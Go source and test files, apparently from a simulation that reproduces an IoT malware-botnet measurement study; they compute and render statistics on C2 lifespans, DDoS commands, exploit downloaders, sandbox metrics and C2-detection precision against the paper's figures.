	// DoubleAttackedShare: §5.2's 25% of target IPs hit by two
	// attack types in one session.
	DoubleAttackedShare float64 `json:"double_attacked_share"`
	// MultiBinaryC2Share: §3.3's "60% of C2 servers are contacted
	// by more than one distinct binaries".
	MultiBinaryC2Share float64 `json:"multi_binary_c2_share"`
	// ActivationRate: §6f's "Our activation rate is at 90%" — the
	// share of samples whose anti-sandbox gate the sandbox defeats.
	ActivationRate float64 `json:"activation_rate"`
}

// NewHeadlines computes them from a study.
func NewHeadlines(st *core.Study) Headlines {
	return HeadlinesFrom(core.CheckpointDatasets{
		Samples: st.Samples, C2s: st.C2s,
		Exploits: st.Exploits, DDoS: st.DDoS,
	})
}

// HeadlinesFrom computes the findings from the four datasets alone —
// the serving path, where the datasets come out of a checkpoint and
// no *core.Study exists.
func HeadlinesFrom(ds core.CheckpointDatasets) Headlines {
	st := ds
	var h Headlines

	// Activation rate over all accepted samples.
	activated := 0
	for _, s := range st.Samples {
		if s.Activated {
			activated++
		}
	}
	if len(st.Samples) > 0 {
		h.ActivationRate = float64(activated) / float64(len(st.Samples))
	}

	// Dead-on-day-0, over samples with detected C2s.
	var withC2, live int
	for _, s := range st.Samples {
		if s.P2P || len(s.C2s) == 0 {
			continue
		}
		withC2++
		if s.LiveDay0 {
			live++
		}
	}
	if withC2 > 0 {
		h.DeadC2Day0Share = 1 - float64(live)/float64(withC2)
	}

	// Lifespans.
	attackC2 := map[string]bool{}
	receivers := map[string]bool{}
	for _, o := range st.DDoS {
		attackC2[o.C2] = true
		receivers[o.SHA256] = true
		if o.Verified {
			h.VerifiedCommands++
		}
	}
	h.DistinctAttackC2s = len(attackC2)
	h.AttackReceivers = len(receivers)
	var allSum, atkSum float64
	var allN, atkN int
	var multi int
	// Sorted iteration: float accumulation order must not depend on
	// map order, or two calls over the same datasets could disagree
	// in the last bits — the daemon serves these bytes and promises
	// identical JSON for identical snapshots.
	addrs := make([]string, 0, len(st.C2s))
	for addr := range st.C2s {
		addrs = append(addrs, addr)
	}
	sort.Strings(addrs)
	for _, addr := range addrs {
		r := st.C2s[addr]
		d := r.LifespanDays()
		allSum += d
		allN++
		if attackC2[addr] {
			atkSum += d
			atkN++
		}
		distinct := map[string]bool{}
		for _, sha := range r.Samples {
			distinct[sha] = true
		}
		if len(distinct) > 1 {
			multi++
		}
	}
	if allN > 0 {
		h.MeanLifespanDays = allSum / float64(allN)
		h.MultiBinaryC2Share = float64(multi) / float64(allN)
	}
	if atkN > 0 {
		h.AttackC2MeanLifespanDays = atkSum / float64(atkN)
	}

	// Downloaders.
	c2IPs := map[string]bool{}
	for _, r := range st.C2s {
		c2IPs[r.IP.String()] = true
	}
	downloaders := map[string]bool{}
	for _, f := range st.Exploits {
		if f.Downloader != "" {
			downloaders[f.Downloader] = true
		}
	}
	h.Downloaders = len(downloaders)
	for d := range downloaders {
		host := d
		for i := len(host) - 1; i >= 0; i-- {
			if host[i] == ':' {
				host = host[:i]
				break
			}
		}
		if !c2IPs[host] {
			h.DownloadersNotC2++
		}
	}

	// Attack ports and double-attacked targets.
	if len(st.DDoS) > 0 {
		var p80, p443 int
		byTarget := map[string]map[string]bool{}
		for _, o := range st.DDoS {
			switch o.Command.Port {
			case 80:
				p80++
			case 443:
				p443++
			}
			k := o.Command.Target.String()
			if byTarget[k] == nil {
				byTarget[k] = map[string]bool{}
			}
			byTarget[k][o.Command.Attack.String()] = true
		}
		h.Port80AttackShare = float64(p80) / float64(len(st.DDoS))
		h.Port443AttackShare = float64(p443) / float64(len(st.DDoS))
		double := 0
		for _, types := range byTarget {
			if len(types) >= 2 {
				double++
			}
		}
		h.DoubleAttackedShare = float64(double) / float64(len(byTarget))
	}
	return h
}

// Render prints the findings with the paper's values alongside.
func (h Headlines) Render() string {
	f := func(v float64) string { return analysis.FmtPct(v) }
	return report.KV("Headline findings (measured vs paper)", [][2]string{
		{"samples with dead C2 on day 0", fmt.Sprintf("%s (paper: 60%%)", f(h.DeadC2Day0Share))},
		{"mean C2 observed lifespan", fmt.Sprintf("%.1f days (paper: 4)", h.MeanLifespanDays)},
		{"attack-C2 mean lifespan", fmt.Sprintf("%.1f days (paper: ~10)", h.AttackC2MeanLifespanDays)},
		{"distinct attack C2 servers", fmt.Sprintf("%d (paper: 17)", h.DistinctAttackC2s)},
		{"binaries receiving commands", fmt.Sprintf("%d (paper: 20)", h.AttackReceivers)},
		{"verified DDoS commands", fmt.Sprintf("%d (paper: 42)", h.VerifiedCommands)},
		{"distinct downloaders", fmt.Sprintf("%d (paper: 47)", h.Downloaders)},
		{"downloaders not C2s", fmt.Sprintf("%d (paper: 12)", h.DownloadersNotC2)},
		{"attacks on port 80", fmt.Sprintf("%s (paper: 21%%)", f(h.Port80AttackShare))},
		{"attacks on port 443", fmt.Sprintf("%s (paper: 7%%)", f(h.Port443AttackShare))},
		{"targets hit by two attack types", fmt.Sprintf("%s (paper: 25%%)", f(h.DoubleAttackedShare))},
		{"C2s used by >1 binary", fmt.Sprintf("%s (paper: 60%%)", f(h.MultiBinaryC2Share))},
		{"sandbox activation rate", fmt.Sprintf("%s (paper: 90%%)", f(h.ActivationRate))},
	})
}
