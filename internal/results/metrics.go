package results

import (
	"fmt"
	"time"

	"malnet/internal/core"
	"malnet/internal/obs"
	"malnet/internal/report"
)

// MetricsSection surfaces the study's deterministic metrics snapshot
// in the report: the pipeline's funnel (feed → accepted), sandbox
// activity, traffic and fault totals split between worker-shard
// networks and the shared world network, probing effort, and the
// disposition tally. Everything here comes from the obs registry, so
// the section is byte-identical at any worker count; wall-clock
// figures are deliberately absent (they live on /debug/wall).
type MetricsSection struct {
	Reg *obs.Registry
}

// NewMetricsSection reads a study's metrics registry. Hand-built
// studies without an observer render all-zero values.
func NewMetricsSection(st *core.Study) MetricsSection {
	return MetricsSection{Reg: st.Metrics()}
}

// Render prints the section as a key-value block.
func (m MetricsSection) Render() string {
	c := func(name string) string { return fmt.Sprint(m.Reg.ReadCounter(name)) }
	faultTotal := func(prefix string) int64 {
		var n int64
		for _, class := range []string{"syn_drop", "segment_drop", "reset", "latency_spike", "blackout", "slow_drip"} {
			n += m.Reg.ReadCounter(prefix + "simnet.faults." + class)
		}
		return n
	}
	runs, events := m.Reg.ReadHistogram("sandbox.events_per_run")
	meanEvents := int64(0)
	if runs > 0 {
		meanEvents = events / runs
	}
	pairs := [][2]string{
		{"feed decoys skipped", c("feed.decoys_skipped")},
		{"feed rejected by intel gate", c("feed.rejected_intel")},
		{"samples accepted", c("feed.samples_accepted")},
		{"sandbox runs", c("sandbox.runs")},
		{"sandbox activations", c("sandbox.activations")},
		{"watchdog aborts", c("sandbox.watchdog_aborts")},
		{"events per isolated run (mean)", fmt.Sprint(meanEvents)},
		{"shard conns dialed", c("simnet.conns_dialed")},
		{"shard conns established", c("simnet.conns_established")},
		{"shard TCP payload bytes", c("simnet.tcp_payload_bytes")},
		{"shard faults injected", fmt.Sprint(faultTotal(""))},
		{"world conns dialed", c("world.simnet.conns_dialed")},
		{"world faults injected", fmt.Sprint(faultTotal("world."))},
		{"probe attempts", c("probe.attempts")},
		{"probe retries", c("probe.retries")},
		{"probe backoff (virtual)", time.Duration(m.Reg.ReadCounter("probe.backoff_virtual_ns")).String()},
		{"probe engagements", c("probe.engaged")},
		{"dispositions alive/retried/dead/timed-out", fmt.Sprintf("%s/%s/%s/%s",
			c("study.disposition.alive"), c("study.disposition.retried-then-alive"),
			c("study.disposition.dead"), c("study.disposition.timed-out"))},
	}
	return report.KV("Pipeline metrics (deterministic)", pairs)
}
