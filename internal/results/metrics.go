package results

import (
	"fmt"
	"time"

	"malnet/internal/core"
	"malnet/internal/obs"
	"malnet/internal/report"
)

// MetricsSection surfaces the study's deterministic metrics snapshot
// in the report: the pipeline's funnel (feed → accepted), sandbox
// activity, traffic and fault totals split between worker-shard
// networks and the shared world network, probing effort, and the
// disposition tally. Everything here is computed once from the obs
// registry, so the section is byte-identical at any worker count and
// serializes directly (the daemon serves it as JSON); wall-clock
// figures are deliberately absent (they live on /debug/wall).
type MetricsSection struct {
	FeedDecoysSkipped int64 `json:"feed_decoys_skipped"`
	FeedRejectedIntel int64 `json:"feed_rejected_intel"`
	SamplesAccepted   int64 `json:"samples_accepted"`

	SandboxRuns        int64 `json:"sandbox_runs"`
	SandboxActivations int64 `json:"sandbox_activations"`
	WatchdogAborts     int64 `json:"watchdog_aborts"`
	MeanEventsPerRun   int64 `json:"mean_events_per_run"`

	ShardConnsDialed      int64 `json:"shard_conns_dialed"`
	ShardConnsEstablished int64 `json:"shard_conns_established"`
	ShardTCPPayloadBytes  int64 `json:"shard_tcp_payload_bytes"`
	ShardFaults           int64 `json:"shard_faults"`
	WorldConnsDialed      int64 `json:"world_conns_dialed"`
	WorldFaults           int64 `json:"world_faults"`

	ProbeAttempts    int64         `json:"probe_attempts"`
	ProbeRetries     int64         `json:"probe_retries"`
	ProbeBackoff     time.Duration `json:"probe_backoff_virtual_ns"`
	ProbeEngagements int64         `json:"probe_engagements"`

	Dispositions DispositionCounts `json:"dispositions"`
}

// DispositionCounts is the study's liveness-disposition tally.
type DispositionCounts struct {
	Alive            int64 `json:"alive"`
	RetriedThenAlive int64 `json:"retried_then_alive"`
	Dead             int64 `json:"dead"`
	TimedOut         int64 `json:"timed_out"`
}

// NewMetricsSection reads a study's metrics registry. Hand-built
// studies without an observer compute all-zero values.
func NewMetricsSection(st *core.Study) MetricsSection {
	return MetricsSectionFrom(st.Metrics())
}

// MetricsSectionFrom computes the section from any registry — a live
// study's, or one reconstructed from a checkpoint's metrics dump (the
// serving path, where no *core.Study exists). A nil registry reads
// as all zeroes.
func MetricsSectionFrom(reg *obs.Registry) MetricsSection {
	faultTotal := func(prefix string) int64 {
		var n int64
		for _, class := range []string{"syn_drop", "segment_drop", "reset", "latency_spike", "blackout", "slow_drip"} {
			n += reg.ReadCounter(prefix + "simnet.faults." + class)
		}
		return n
	}
	runs, events := reg.ReadHistogram("sandbox.events_per_run")
	meanEvents := int64(0)
	if runs > 0 {
		meanEvents = events / runs
	}
	return MetricsSection{
		FeedDecoysSkipped: reg.ReadCounter("feed.decoys_skipped"),
		FeedRejectedIntel: reg.ReadCounter("feed.rejected_intel"),
		SamplesAccepted:   reg.ReadCounter("feed.samples_accepted"),

		SandboxRuns:        reg.ReadCounter("sandbox.runs"),
		SandboxActivations: reg.ReadCounter("sandbox.activations"),
		WatchdogAborts:     reg.ReadCounter("sandbox.watchdog_aborts"),
		MeanEventsPerRun:   meanEvents,

		ShardConnsDialed:      reg.ReadCounter("simnet.conns_dialed"),
		ShardConnsEstablished: reg.ReadCounter("simnet.conns_established"),
		ShardTCPPayloadBytes:  reg.ReadCounter("simnet.tcp_payload_bytes"),
		ShardFaults:           faultTotal(""),
		WorldConnsDialed:      reg.ReadCounter("world.simnet.conns_dialed"),
		WorldFaults:           faultTotal("world."),

		ProbeAttempts:    reg.ReadCounter("probe.attempts"),
		ProbeRetries:     reg.ReadCounter("probe.retries"),
		ProbeBackoff:     time.Duration(reg.ReadCounter("probe.backoff_virtual_ns")),
		ProbeEngagements: reg.ReadCounter("probe.engaged"),

		Dispositions: DispositionCounts{
			Alive:            reg.ReadCounter("study.disposition.alive"),
			RetriedThenAlive: reg.ReadCounter("study.disposition.retried-then-alive"),
			Dead:             reg.ReadCounter("study.disposition.dead"),
			TimedOut:         reg.ReadCounter("study.disposition.timed-out"),
		},
	}
}

// Render prints the section as a key-value block.
func (m MetricsSection) Render() string {
	c := func(v int64) string { return fmt.Sprint(v) }
	pairs := [][2]string{
		{"feed decoys skipped", c(m.FeedDecoysSkipped)},
		{"feed rejected by intel gate", c(m.FeedRejectedIntel)},
		{"samples accepted", c(m.SamplesAccepted)},
		{"sandbox runs", c(m.SandboxRuns)},
		{"sandbox activations", c(m.SandboxActivations)},
		{"watchdog aborts", c(m.WatchdogAborts)},
		{"events per isolated run (mean)", c(m.MeanEventsPerRun)},
		{"shard conns dialed", c(m.ShardConnsDialed)},
		{"shard conns established", c(m.ShardConnsEstablished)},
		{"shard TCP payload bytes", c(m.ShardTCPPayloadBytes)},
		{"shard faults injected", c(m.ShardFaults)},
		{"world conns dialed", c(m.WorldConnsDialed)},
		{"world faults injected", c(m.WorldFaults)},
		{"probe attempts", c(m.ProbeAttempts)},
		{"probe retries", c(m.ProbeRetries)},
		{"probe backoff (virtual)", m.ProbeBackoff.String()},
		{"probe engagements", c(m.ProbeEngagements)},
		{"dispositions alive/retried/dead/timed-out", fmt.Sprintf("%s/%s/%s/%s",
			c(m.Dispositions.Alive), c(m.Dispositions.RetriedThenAlive),
			c(m.Dispositions.Dead), c(m.Dispositions.TimedOut))},
	}
	return report.KV("Pipeline metrics (deterministic)", pairs)
}
