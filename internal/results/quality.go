package results

import (
	"fmt"

	"malnet/internal/analysis"
	"malnet/internal/core"
	"malnet/internal/report"
)

// DetectionQuality scores the pipeline's C2 classifier against the
// world's ground truth — the counterpart of CnCHunter's reported
// "90 % precision" (§2.1). The simulation's bots emit cleaner
// protocol artifacts than real samples, so precision here runs
// higher; the mechanics being scored are the paper's.
type DetectionQuality struct {
	// TruePositives are detected addresses present in ground truth.
	TruePositives int `json:"true_positives"`
	// FalsePositives are detected addresses with no ground-truth
	// server behind them.
	FalsePositives int `json:"false_positives"`
	// FalseNegatives are ground-truth C2s referenced by accepted
	// samples that the pipeline never surfaced.
	FalseNegatives int `json:"false_negatives"`
}

// Precision is TP / (TP + FP).
func (q DetectionQuality) Precision() float64 {
	if q.TruePositives+q.FalsePositives == 0 {
		return 0
	}
	return float64(q.TruePositives) / float64(q.TruePositives+q.FalsePositives)
}

// Recall is TP / (TP + FN).
func (q DetectionQuality) Recall() float64 {
	if q.TruePositives+q.FalseNegatives == 0 {
		return 0
	}
	return float64(q.TruePositives) / float64(q.TruePositives+q.FalseNegatives)
}

// NewDetectionQuality compares D-C2s to the world's ground truth.
func NewDetectionQuality(st *core.Study) DetectionQuality {
	var q DetectionQuality
	for addr := range st.C2s {
		if st.W.C2s[addr] != nil {
			q.TruePositives++
		} else {
			q.FalsePositives++
		}
	}
	// Ground truth referenced by the feed, excluding the planted
	// probe-only population.
	for addr, cs := range st.W.C2s {
		if cs.Elusive || len(cs.SampleIdx) == 0 {
			continue
		}
		if st.C2s[addr] == nil {
			q.FalseNegatives++
		}
	}
	return q
}

// Render prints the quality summary.
func (q DetectionQuality) Render() string {
	return report.KV("C2 detection quality vs ground truth", [][2]string{
		{"true positives", fmt.Sprintf("%d", q.TruePositives)},
		{"false positives", fmt.Sprintf("%d", q.FalsePositives)},
		{"false negatives", fmt.Sprintf("%d", q.FalseNegatives)},
		{"precision", fmt.Sprintf("%s (CnCHunter paper: 90%%)", analysis.FmtPct(q.Precision()))},
		{"recall", analysis.FmtPct(q.Recall())},
	})
}
