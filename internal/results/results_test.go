package results

import (
	"encoding/json"
	"strings"
	"sync"
	"testing"

	"malnet/internal/core"
	"malnet/internal/world"
)

var (
	stOnce sync.Once
	stVal  *core.Study
)

// study runs one scaled study shared by every test in the package.
func study(t *testing.T) *core.Study {
	t.Helper()
	stOnce.Do(func() {
		wcfg := world.DefaultConfig(11)
		wcfg.TotalSamples = 400
		w := world.Generate(wcfg)
		scfg := core.DefaultStudyConfig(11)
		scfg.Analysis.ProbeRounds = 12
		stVal = core.RunStudy(w, scfg)
	})
	return stVal
}

func TestTable1Consistent(t *testing.T) {
	st := study(t)
	t1 := NewTable1(st)
	if t1.DSamples != len(st.Samples) || t1.DC2s != len(st.C2s) || t1.DDDoS != len(st.DDoS) {
		t.Fatalf("table1 = %+v", t1)
	}
	if t1.DExploitSamples == 0 || t1.DPC2Measurements == 0 {
		t.Fatalf("table1 missing data: %+v", t1)
	}
	if out := t1.Render(); !strings.Contains(out, "D-Samples") || !strings.Contains(out, "D-DDOS") {
		t.Fatalf("render: %q", out)
	}
}

func TestTable2TopASes(t *testing.T) {
	st := study(t)
	t2 := NewTable2(st)
	if len(t2.Rows) == 0 {
		t.Fatal("no AS rows")
	}
	if t2.Top10Share < 0.5 || t2.Top10Share > 0.9 {
		t.Fatalf("top-10 share = %.3f, want ~0.70", t2.Top10Share)
	}
	// Descending order.
	for i := 1; i < len(t2.Rows); i++ {
		if t2.Rows[i].C2s > t2.Rows[i-1].C2s {
			t.Fatal("rows not sorted")
		}
	}
	names := map[string]bool{}
	for i, r := range t2.Rows {
		if i < 10 {
			names[r.AS.Name] = true
		}
	}
	if !names["ColoCrossing"] {
		t.Fatalf("ColoCrossing not in top-10 (%v)", names)
	}
}

func TestTable3MissRates(t *testing.T) {
	st := study(t)
	t3 := NewTable3(st)
	if t3.NIP == 0 {
		t.Fatal("no IP records")
	}
	if t3.AllDay0 < 0.05 || t3.AllDay0 > 0.40 {
		t.Fatalf("all day-0 miss = %.3f, want ~0.15", t3.AllDay0)
	}
	if t3.AllMay7 >= t3.AllDay0 {
		t.Fatalf("May-7 miss (%.3f) should drop below day-0 (%.3f)", t3.AllMay7, t3.AllDay0)
	}
	if t3.NDNS > 0 && t3.DNSDay0 <= t3.IPDay0 {
		t.Fatalf("DNS miss (%.3f) should exceed IP miss (%.3f)", t3.DNSDay0, t3.IPDay0)
	}
}

func TestTable4MeasuredCounts(t *testing.T) {
	st := study(t)
	t4 := NewTable4(st)
	if len(t4.Rows) != 12 {
		t.Fatalf("rows = %d", len(t4.Rows))
	}
	total := 0
	for _, r := range t4.Rows {
		total += r.Samples
	}
	if total == 0 {
		t.Fatal("no measured exploit samples")
	}
	// The paper's top-4 are GPON, D-Link HNAP and MVPower; at
	// small scale require the heavy hitters to dominate.
	top := t4.TopKeys(3)
	heavy := map[string]bool{"gpon-rce": true, "dlink-hnap": true, "mvpower-dvr": true, "vacron-nvr": true, "zyxel-viewlog": true}
	for _, k := range top[:1] {
		if !heavy[k] {
			t.Fatalf("top vulnerability %q is not a paper heavy hitter", k)
		}
	}
}

func TestTable5And6Static(t *testing.T) {
	if got := len(NewTable5().Ports); got != 12 {
		t.Fatalf("ports = %d", got)
	}
	if got := len(NewTable6().Families); got != 7 {
		t.Fatalf("families = %d", got)
	}
}

func TestTable7VendorShape(t *testing.T) {
	st := study(t)
	t7 := NewTable7(st)
	if t7.SampleSize == 0 || len(t7.Rows) == 0 {
		t.Fatal("empty table 7")
	}
	if t7.EverFlagging > 44 {
		t.Fatalf("flagging vendors = %d, only 44 ever flag", t7.EverFlagging)
	}
	if t7.Rows[0].Count < t7.Rows[len(t7.Rows)-1].Count {
		t.Fatal("not sorted")
	}
	// Top vendor should flag most of the queried C2s.
	if share := float64(t7.Rows[0].Count) / float64(t7.SampleSize); share < 0.5 {
		t.Fatalf("top vendor share = %.3f, want most (paper: ~0.80)", share)
	}
}

func TestFigure1HeatmapShape(t *testing.T) {
	st := study(t)
	f1 := NewFigure1(st)
	if len(f1.Grid.Rows) == 0 || len(f1.Grid.Cols) != 31 {
		t.Fatalf("grid %dx%d", len(f1.Grid.Rows), len(f1.Grid.Cols))
	}
	if f1.Grid.Max() == 0 {
		t.Fatal("empty heatmap")
	}
}

func TestFigure2LifetimeShape(t *testing.T) {
	st := study(t)
	f2 := NewFigure2(st)
	if f2.CDF.N() == 0 {
		t.Fatal("no lifetimes")
	}
	if share := f2.OneDayShare(); share < 0.55 || share > 0.95 {
		t.Fatalf("one-day share = %.3f, want ~0.80", share)
	}
	if mean := f2.CDF.Mean(); mean < 1.5 || mean > 8 {
		t.Fatalf("mean lifetime = %.2f days, want ~4", mean)
	}
}

func TestFigure4ProbeHeadlines(t *testing.T) {
	st := study(t)
	f4 := NewFigure4(st)
	if len(f4.Targets) == 0 {
		t.Fatal("no probe targets")
	}
	if f4.MaxDailyStreak >= 6 {
		t.Fatalf("daily streak = %d, want < 6", f4.MaxDailyStreak)
	}
	if f4.Pairs > 0 && (f4.SecondProbeMiss < 0.5 || f4.SecondProbeMiss > 1.0) {
		t.Fatalf("second-probe miss = %.3f, want high (~0.91)", f4.SecondProbeMiss)
	}
}

func TestFigure5SharingShape(t *testing.T) {
	st := study(t)
	f5 := NewFigure5(st)
	if f5.CDF.N() == 0 {
		t.Fatal("empty CDF")
	}
	if share := f5.SingleShare(); share < 0.2 || share > 0.75 {
		t.Fatalf("single-binary share = %.3f, want ~0.40", share)
	}
}

func TestFigure7VendorCoverage(t *testing.T) {
	st := study(t)
	f7 := NewFigure7(st)
	if f7.CDF.N() == 0 {
		t.Fatal("empty CDF")
	}
	if share := f7.LowCoverageShare(); share < 0.05 || share > 0.5 {
		t.Fatalf("<=2-vendor share = %.3f, want ~0.25", share)
	}
}

func TestFigure8And9Exploits(t *testing.T) {
	st := study(t)
	f8 := NewFigure8(st)
	if len(f8.Series) == 0 {
		t.Fatal("no series")
	}
	f9 := NewFigure9(st)
	if f9.Loaders.Total() == 0 {
		t.Fatal("no loaders")
	}
	for _, e := range f9.Loaders.Sorted() {
		switch e.Label {
		case "t8UsA2.sh", "Tsunamix6", "ddns.sh", "8UsA.sh", "wget.sh", "zyxel.sh", "jaws.sh":
		default:
			t.Fatalf("unexpected loader %q", e.Label)
		}
	}
}

func TestFigure10ProtocolShape(t *testing.T) {
	st := study(t)
	f10 := NewFigure10(st)
	if f10.Protos.Total() == 0 {
		t.Fatal("no attacks")
	}
	if share := f10.UDPShare(); share < 0.5 {
		t.Fatalf("UDP share = %.3f, want dominant (~0.74)", share)
	}
}

func TestFigure11FamilyMix(t *testing.T) {
	st := study(t)
	f11 := NewFigure11(st)
	var total int
	for _, fam := range f11.Grid.Rows {
		total += f11.Grid.RowTotal(fam)
	}
	if total != len(st.DDoS) {
		t.Fatalf("grid total %d != observations %d", total, len(st.DDoS))
	}
	if f11.Types < 4 {
		t.Fatalf("attack types = %d, want several (paper: 8)", f11.Types)
	}
}

func TestFigure12TargetGeo(t *testing.T) {
	st := study(t)
	f12 := NewFigure12(st)
	if f12.TargetASes == 0 || f12.Countries == 0 {
		t.Fatalf("figure12 = %+v", f12)
	}
	if f12.ByType.Count("ISP") == 0 && f12.ByType.Count("Hosting") == 0 {
		t.Fatal("no ISP/hosting targets")
	}
}

func TestFigure13Cumulative(t *testing.T) {
	st := study(t)
	f13 := NewFigure13(st)
	if f13.TotalASes == 0 {
		t.Fatal("no ASes")
	}
	last := 0.0
	for _, v := range f13.Cumulative {
		if v < last {
			t.Fatal("cumulative not monotone")
		}
		last = v
	}
	if last < 0.999 {
		t.Fatalf("cumulative ends at %.3f", last)
	}
}

func TestHeadlinesConsistency(t *testing.T) {
	st := study(t)
	h := NewHeadlines(st)
	if h.DeadC2Day0Share < 0.3 || h.DeadC2Day0Share > 0.85 {
		t.Fatalf("dead day-0 share = %.3f, want ~0.60", h.DeadC2Day0Share)
	}
	// At this reduced scale attack C2s may lack their second
	// binding, deflating their observed span; the strict ordering
	// (paper: ~10 vs 4 days) is asserted at full scale in
	// TestFullScaleStudy. Here require same order of magnitude.
	if h.AttackC2MeanLifespanDays < 0.6*h.MeanLifespanDays {
		t.Fatalf("attack C2 lifespan %.1f << overall %.1f", h.AttackC2MeanLifespanDays, h.MeanLifespanDays)
	}
	if h.DistinctAttackC2s == 0 || h.AttackReceivers == 0 {
		t.Fatalf("headlines = %+v", h)
	}
	if h.Downloaders == 0 || h.DownloadersNotC2 > h.Downloaders {
		t.Fatalf("downloaders = %d / not-C2 %d", h.Downloaders, h.DownloadersNotC2)
	}
}

func TestAllRendersNonEmpty(t *testing.T) {
	st := study(t)
	outputs := []string{
		NewTable1(st).Render(), NewTable2(st).Render(), NewTable3(st).Render(),
		NewTable4(st).Render(), NewTable5().Render(), NewTable6().Render(),
		NewTable7(st).Render(), NewFigure1(st).Render(), NewFigure2(st).Render(),
		NewFigure3(st).Render(), NewFigure4(st).Render(), NewFigure5(st).Render(),
		NewFigure6(st).Render(), NewFigure7(st).Render(), NewFigure8(st).Render(),
		NewFigure9(st).Render(), NewFigure10(st).Render(), NewFigure11(st).Render(),
		NewFigure12(st).Render(), NewFigure13(st).Render(), NewHeadlines(st).Render(),
	}
	for i, out := range outputs {
		if len(strings.TrimSpace(out)) < 10 {
			t.Fatalf("output %d too short: %q", i, out)
		}
	}
}

func TestDetectionQuality(t *testing.T) {
	st := study(t)
	q := NewDetectionQuality(st)
	if q.TruePositives == 0 {
		t.Fatal("no true positives")
	}
	if q.Precision() < 0.95 {
		t.Fatalf("precision = %.3f, want >= 0.95 (paper: 0.90 floor)", q.Precision())
	}
	if q.Recall() < 0.80 {
		t.Fatalf("recall = %.3f (tp=%d fn=%d)", q.Recall(), q.TruePositives, q.FalseNegatives)
	}
	if !strings.Contains(q.Render(), "precision") {
		t.Fatal("render missing precision")
	}
}

// TestResultsSerializable is the results-API contract: every table,
// figure, and summary is a plain data struct the daemon can serve as
// JSON — marshaling never fails and never produces an empty object
// (which would mean a section quietly lost its exported fields).
func TestResultsSerializable(t *testing.T) {
	st := study(t)
	sections := map[string]any{
		"table1":   NewTable1(st),
		"table2":   NewTable2(st),
		"table3":   NewTable3(st),
		"table4":   NewTable4(st),
		"table5":   NewTable5(),
		"table6":   NewTable6(),
		"table7":   NewTable7(st),
		"figure1":  NewFigure1(st),
		"figure4":  NewFigure4(st),
		"figure8":  NewFigure8(st),
		"figure10": NewFigure10(st),
		"figure11": NewFigure11(st),
		"figure12": NewFigure12(st),
		"figure13": NewFigure13(st),
		"headline": NewHeadlines(st),
		"metrics":  NewMetricsSection(st),
		"faults":   NewFaultSummary(st),
		"quality":  NewDetectionQuality(st),
	}
	for name, v := range sections {
		b, err := json.Marshal(v)
		if err != nil {
			t.Errorf("%s does not marshal: %v", name, err)
			continue
		}
		if s := string(b); s == "{}" || s == "null" {
			t.Errorf("%s marshals to %s", name, s)
		}
	}
	// The snapshot-path constructors must agree with the study-path
	// ones: the daemon's JSON is the report's data.
	fromDS := HeadlinesFrom(core.CheckpointDatasets{
		Samples: st.Samples, C2s: st.C2s, Exploits: st.Exploits, DDoS: st.DDoS,
	})
	if fromDS != NewHeadlines(st) {
		t.Error("HeadlinesFrom(datasets) != NewHeadlines(study)")
	}
	if MetricsSectionFrom(st.Metrics()) != NewMetricsSection(st) {
		t.Error("MetricsSectionFrom(registry) != NewMetricsSection(study)")
	}
}
