// Package results aggregates a completed study into every table and
// figure of the paper's evaluation, each as structured data plus a
// text rendering. cmd/experiments, the benchmarks, and EXPERIMENTS.md
// are all built on these constructors.
package results

import (
	"fmt"
	"sort"
	"strconv"

	"malnet/internal/analysis"
	"malnet/internal/core"
	"malnet/internal/geo"
	"malnet/internal/intel"
	"malnet/internal/malware"
	"malnet/internal/report"
	"malnet/internal/vuln"
	"malnet/internal/world"
)

// Table1 is the dataset summary.
type Table1 struct {
	DSamples         int `json:"d_samples"`
	DC2s             int `json:"d_c2s"`
	DPC2Measurements int `json:"d_pc2_measurements"`
	DExploitSamples  int `json:"d_exploit_samples"`
	DDDoS            int `json:"d_ddos"`
	ProbeLiveC2s     int `json:"probe_live_c2s"`
}

// NewTable1 computes the dataset sizes.
func NewTable1(st *core.Study) Table1 {
	t := Table1{
		DSamples: len(st.Samples),
		DC2s:     len(st.C2s),
		DDDoS:    len(st.DDoS),
	}
	exploitSamples := map[string]bool{}
	for _, f := range st.Exploits {
		exploitSamples[f.SHA256] = true
	}
	t.DExploitSamples = len(exploitSamples)
	for _, tgt := range st.MergedLiveC2s() {
		t.ProbeLiveC2s++
		for _, o := range tgt.Outcomes {
			if o != core.ProbeNoAnswer {
				t.DPC2Measurements++
			}
		}
	}
	return t
}

// Render prints the Table 1 rows.
func (t Table1) Render() string {
	return report.Table("Table 1: datasets", []string{"Dataset", "Size", "Methodology"}, [][]string{
		{"D-Samples", strconv.Itoa(t.DSamples), "daily collection from simulated VT/MalwareBazaar feeds"},
		{"D-C2s", strconv.Itoa(t.DC2s), "sandbox C2 detection, TI cross-verified"},
		{"D-PC2", strconv.Itoa(t.DPC2Measurements), fmt.Sprintf("probing: %d live C2s, 4h interval, 2 weeks", t.ProbeLiveC2s)},
		{"D-Exploits", strconv.Itoa(t.DExploitSamples), "handshaker exploit extraction"},
		{"D-DDOS", strconv.Itoa(t.DDDoS), "C2 command eavesdropping"},
	})
}

// Table2Row is one AS row.
type Table2Row struct {
	AS    *geo.AS
	C2s   int
	Share float64
}

// Table2 ranks the ASes hosting C2 IPs.
type Table2 struct {
	Rows []Table2Row
	// Top10Share is the §3.1 "10 ASes host 69.7%" figure.
	Top10Share float64
	// TotalASes is Appendix A's 128.
	TotalASes int
}

// NewTable2 aggregates D-C2s by autonomous system.
func NewTable2(st *core.Study) Table2 {
	counts := analysis.NewHistogram()
	byName := map[string]*geo.AS{}
	for _, r := range st.C2s {
		as, ok := st.W.Geo.Lookup(r.IP)
		if !ok {
			continue
		}
		counts.Add(as.Name, 1)
		byName[as.Name] = as
	}
	t := Table2{TotalASes: len(counts.Labels()), Top10Share: analysis.TopShare(counts, 10)}
	for _, e := range counts.Sorted() {
		t.Rows = append(t.Rows, Table2Row{
			AS: byName[e.Label], C2s: e.Count,
			Share: float64(e.Count) / float64(counts.Total()),
		})
	}
	return t
}

// Render prints the top-10 rows with Table 2's attribute columns.
func (t Table2) Render() string {
	rows := make([][]string, 0, 10)
	for i, r := range t.Rows {
		if i == 10 {
			break
		}
		anti := "Yes"
		if r.AS.Unknown {
			anti = "N/A"
		} else if !r.AS.AntiDDoS {
			anti = "No"
		}
		rows = append(rows, []string{
			r.AS.Name, strconv.Itoa(r.AS.ASN), r.AS.Country, "Yes", anti,
			strconv.Itoa(r.C2s), analysis.FmtPct(r.Share),
		})
	}
	out := report.Table("Table 2: top ASes hosting C2 IPs",
		[]string{"AS Name", "ASN", "Country", "Hosting", "Anti-DDoS", "C2s", "Share"}, rows)
